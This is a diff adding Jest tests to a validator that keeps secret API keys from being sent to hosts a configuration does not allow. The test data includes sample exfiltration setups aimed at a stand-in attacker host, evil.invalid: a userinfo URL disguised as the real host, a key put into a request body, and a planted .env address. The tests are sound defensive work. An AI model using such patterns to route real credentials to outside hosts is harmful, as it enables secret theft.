@@ -1,6 +1,9 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
 import { type Answer, type EmulatorServer, route, serve } from '../../support/emulators/http.ts';
-import { validate } from './support.ts';
+import { validate, validateFile } from './support.ts';
 
 // T1, T5: a stale provider key is found before the deploy.
 const key = 'fake-provider-key-41f8c09d7e';
@@ -105,6 +108,60 @@ describe('a request of the contract', () => {
   test('is only told to be unreachable when it is', async () => {
     const contract = 'KEY: { live: { get: "http://no-such-host.invalid/" } }';
     expect(await outcome(contract, { KEY: key })).toMatchObject({ verdict: 'error', codes: ['network/unknown-host'] });
+  });
+
+  describe('to a host that the configuration names', () => {
+    const stripe = `sk_live_${'fake0123456789'.repeat(2)}`;
+    const request = (address: string, name = 'KEY') =>
+      `KEY: { live: { get: "${address}", headers: { Authorization: "\${${name}}" } } }`;
+
+    test.each([
+      ['another host', request('https://evil.invalid/'), { KEY: key }],
+      [
+        'a user that looks like the host',
+        request('https://${API_HOST}@evil.invalid/'),
+        { KEY: key, API_HOST: 'api.invalid' },
+      ],
+      ['the provider of another key', request('https://api.openai.com/v1/models'), { KEY: stripe }],
+      [
+        'the provider, in a body that a stranger could keep',
+        'KEY: { live: { post: https://api.stripe.com/v1/customers, json: { name: "${KEY}" } } }',
+        { KEY: stripe },
+      ],
+    ])('is not sent: %s', async (_, contract, variables) => {
+      expect(await outcome(contract, variables)).toMatchObject({ verdict: 'error', codes: ['env/host-not-allowed'] });
+    });
+
+    test.each([
+      ['a host of the workflow', request('https://evil.invalid/'), { KEY: key }, { liveHosts: ['evil.invalid'] }],
+      [
+        'the host of an address that the workflow passes',
+        request('https://own.invalid/v1'),
+        { KEY: key, API: 'https://own.invalid' },
+        {},
+      ],
+      [
+        'a value that need not be hidden',
+        request('https://other.invalid/', 'REGION'),
+        { KEY: key, REGION: 'eu-west-1' },
+        {},
+      ],
+    ])('is sent: %s', async (_, contract, variables, given) => {
+      const report = await validate(contract, variables, { given });
+      const codes = report.checks.flatMap(({ findings }) => findings.map(({ code }) => code));
+      expect(codes).toEqual(['network/unknown-host']);
+    });
+
+    test('the one that a dotenv file of the checkout names is not trusted either', async () => {
+      const workspace = await mkdtemp(join(tmpdir(), 'release-gates-live-'));
+      await writeFile(join(workspace, '.env'), 'SUPABASE_URL=https://evil.invalid\n');
+      const text = `env: { api: { SUPABASE_URL: { type: supabase-url, key: KEY, live: true }, KEY: { type: supabase-key, role: secret } } }
+sources: { api: { files: [.env] } }`;
+      const report = await validateFile(text, { KEY: 'sb_secret_fake-0123456789' }, { workspace });
+      await rm(workspace, { recursive: true });
+      const codes = report.checks.flatMap(({ findings }) => findings.map(({ code }) => code));
+      expect(codes).toContain('env/host-not-allowed');
+    });
   });
 
   test('must be exactly one', async () => {
